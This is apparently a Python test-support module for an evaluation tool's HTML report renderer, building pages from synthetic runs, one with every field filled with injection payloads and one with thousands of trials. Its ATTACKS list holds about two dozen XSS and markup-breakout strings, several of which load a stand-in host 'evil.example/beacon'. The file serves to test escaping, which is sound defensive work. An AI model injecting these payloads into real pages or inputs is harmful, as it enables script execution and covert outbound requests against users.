"""Pages of runs that never were: with texts that try to become something else, and with very many trials."""

from __future__ import annotations

from evalward.commands.ending import shown_reports
from evalward.commands.pipeline import decide_report
from evalward.records.base import digest_text
from evalward.records.policy import Policy
from evalward.records.result import CheckResult, Result
from evalward.render.kept import Sources
from evalward.render.outputs import ShownJudgement, text_of
from evalward.suites.bash.kind import BASH
from support.hostile import EVERYTHING, fill
from support.judgements import context, failed
from support.kept_trials import conversation, kept
from support.results import baseline, report, result, run

BEACON = "https://evil.example/beacon"
ATTACKS = (
    "<script>window.hacked = 1</script>",
    f"<script src={BEACON}></script>",
    "</script><script>window.hacked = 1</script>",
    "</style><script>window.hacked = 1</script>",
    "</pre></code></td></table></main><script>window.hacked = 1</script>",
    f"<img src={BEACON} onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'><script>window.hacked = 1</script></svg>",
    "<svg><style><img src=x onerror='window.hacked = 1'></style></svg>",
    "\" autofocus onfocus='window.hacked = 1' x=\"",
    "' onmouseover='window.hacked = 1' x='",
    "<a href='javascript:window.hacked = 1'>x</a>",
    "javascript:window.hacked = 1",
    "[x](javascript:window.hacked=1)",
    "<details open ontoggle='window.hacked = 1'>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f"<base href={BEACON}>",
    f"<link rel=stylesheet href={BEACON}>",
    f"<style>* {{ display: none }} @import '{BEACON}';</style>",
    "<p style='position: fixed; inset: 0; background: red'>Passed</p>",
    f"<iframe src={BEACON} srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    f"<object data={BEACON}></object><embed src={BEACON}>",
    f"<form action={BEACON}><input name=text autofocus onfocus='window.hacked = 1'></form>",
    "<template shadowrootmode=open><script>window.hacked = 1</script></template>",
    "<!--><script>window.hacked = 1</script>-->",
    "<noscript><p title='</noscript><script>window.hacked = 1</script>'>",
    '{"a": "</script>"} ${window.hacked = 1} {{ window.hacked }} {% raw %}',
)
HOSTILE = f"{' '.join(ATTACKS)} {EVERYTHING}"
LONG_LINE = "x" * 1_000_000


def hostile_page() -> str:
    """A page of which every text is an attack: the judgement's, the report's, those of trials and their outputs."""
    shown = ShownJudgement(fill(failed(), HOSTILE), context(repository=HOSTILE, title=HOSTILE), sources=_hostile())
    return text_of("html", shown)


def hostile_report_page() -> str:
    """The same of a report that nothing was compared with."""
    sources = _hostile()
    assert sources.report is not None
    return text_of("html", shown_reports([sources.report], sources=[sources]))


def _hostile() -> Sources:
    prompt = digest_text(HOSTILE)
    results = [
        result(
            f"{attack} {number}",
            "failed",
            trace=f"{number}.json",
            message=HOSTILE,
            category=attack,
            reason="checks_failed",
            checks=[CheckResult(check=HOSTILE, passed=False, detail=HOSTILE)],
        )
        for number, attack in enumerate((HOSTILE, *ATTACKS))
    ]
    told = conversation(HOSTILE, HOSTILE, f"{HOSTILE}\n{LONG_LINE}\n{HOSTILE}", HOSTILE, stderr=HOSTILE * 20)
    measured = report(run(results, suite=HOSTILE, target=HOSTILE, parts={"system": prompt}), texts={prompt: HOSTILE})
    return Sources(report=measured, kept=kept(results, told), kinds={"bash": BASH})


def large_page(trials: int) -> str:
    """The page of a run of so many cases, a trial of 2,000 characters each, of which every twentieth broke."""
    before = [result(f"case_{number:05}", category=f"category_{number % 9}") for number in range(trials)]
    now = [_of_many(number) for number in range(trials)]
    measured, base = report(run(now)), baseline(run(before))
    told = conversation(
        "List the files of the project. " * 10, "ls -lR /data | sort", "notes.txt 12 kB\n" * 70, "Done."
    )
    sources = Sources(report=measured, baseline=base, kept=kept(now, told), kinds={"bash": BASH})
    judgement = decide_report(measured, base, Policy())
    return text_of("html", ShownJudgement(judgement, context(), sources=sources))


def _of_many(number: int) -> Result:
    status = "failed" if number % 20 == 7 else "passed"
    return result(f"case_{number:05}", status, category=f"category_{number % 9}", trace=f"{number}.json")
